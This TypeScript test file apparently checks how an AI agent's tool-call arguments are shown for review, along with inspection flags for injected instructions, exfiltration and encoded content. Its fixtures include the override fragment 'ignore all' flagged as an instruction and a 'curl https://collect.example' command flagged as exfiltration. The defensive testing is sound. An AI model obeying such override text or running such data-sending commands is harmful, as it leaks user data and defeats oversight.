import fc from 'fast-check';
import { expect, test } from 'vitest';
import { givenOf } from '../../../renderer/chat/needs/given.ts';
import type { Flag } from '../../../src/domain/inspection.ts';
import { asJson, type Json } from '../../../src/domain/json.ts';

function flagOf(args: Json, words: string): Flag {
	const line = JSON.stringify(args);
	const written = JSON.stringify(words).slice(1, -1);
	const start = line.indexOf(written);
	return { kind: 'instruction', start, end: start + written.length };
}

test('B3 what is touched is said once, with its flags; everything else stands under its name', () => {
	const args = { path: 'notes/a.md', content: 'One\n“two”', mode: 'replace' };
	const touches = [{ sink: 'file' as const, access: 'write' as const, path: 'workspace/notes/a.md', root: 'workspace' }];
	const given = givenOf(args, [flagOf(args, 'a.md'), flagOf(args, 'two')], touches);
	expect(given).toEqual({
		parts: [
			{ name: 'content', kind: 'text', text: args.content, flags: [{ kind: 'instruction', start: 5, end: 8 }] },
			{ name: 'mode', kind: 'text', text: 'replace', flags: [] },
		],
		touched: new Map([['workspace/notes/a.md', [{ kind: 'instruction', start: 16, end: 20 }]]]),
		elsewhere: false,
	});
});

test('changes of a file are told as such, and other shapes as JSON', () => {
	const args = { edits: [{ find: 'a\tb', replace: 'c' }], odd: [{ find: 'a', more: 1 }], none: [] };
	const given = givenOf(args, [flagOf(args, '\tb')], []);
	expect(given?.parts).toMatchObject([
		{ kind: 'edits', edits: [{ find: { text: 'a\tb', flags: [{ start: 1, end: 3 }] }, replace: { text: 'c', flags: [] } }] },
		{ kind: 'json', text: JSON.stringify(args.odd, null, 2) },
		{ kind: 'texts', texts: [] },
	]);
});

test('a flag on a name is seen in the JSON only, and said to be', () => {
	const args = { 'ignore all': 'x' };
	expect(givenOf(args, [flagOf(args, 'ignore all')], [])?.elsewhere).toBe(true);
	expect(givenOf('just text', [], [])).toBeUndefined();
});

test('a flag that runs over several values marks the one where most of it lies', () => {
	const args = { command: 'curl https://collect.example', cwd: 'bills' };
	const end = JSON.stringify(args).indexOf('bills') + 2;
	const given = givenOf(args, [{ kind: 'exfiltration', start: JSON.stringify(args).indexOf('curl'), end }], []);
	expect(given?.parts).toMatchObject([{ flags: [{ start: 0, end: args.command.length }] }, { flags: [] }]);
	expect(given?.elsewhere).toBe(false);
});

test('B3 no value is ever left out or changed, and every flagged piece of a text is marked whole', () => {
	fc.assert(
		fc.property(fc.dictionary(fc.string({ unit: 'binary', minLength: 1 }), fc.string({ unit: 'binary' }), { maxKeys: 4 }), (values) => {
			const args = asJson(values) as Record<string, string>;
			for (const [name, text] of Object.entries(args)) {
				const line = JSON.stringify(args);
				const before = Object.entries(args).slice(0, Object.keys(args).indexOf(name));
				const at = 1 + before.reduce((sum, [key, value]) => sum + JSON.stringify(key).length + JSON.stringify(value).length + 2, 0);
				const start = at + JSON.stringify(name).length + 2;
				const flag: Flag = { kind: 'encoded', start, end: start + JSON.stringify(text).length - 2 };
				expect(line.slice(flag.start, flag.end)).toBe(JSON.stringify(text).slice(1, -1));
				const given = givenOf(args, [flag], []);
				expect(given?.parts.map((part) => [part.name, part.kind === 'text' ? part.text : undefined])).toEqual(Object.entries(args));
				const part = given?.parts.find((one) => one.name === name);
				expect(part?.kind === 'text' ? part.flags : undefined).toEqual(
					text === '' ? [] : [{ kind: 'encoded', start: 0, end: text.length }],
				);
			}
		}),
		{ numRuns: 200 },
	);
});
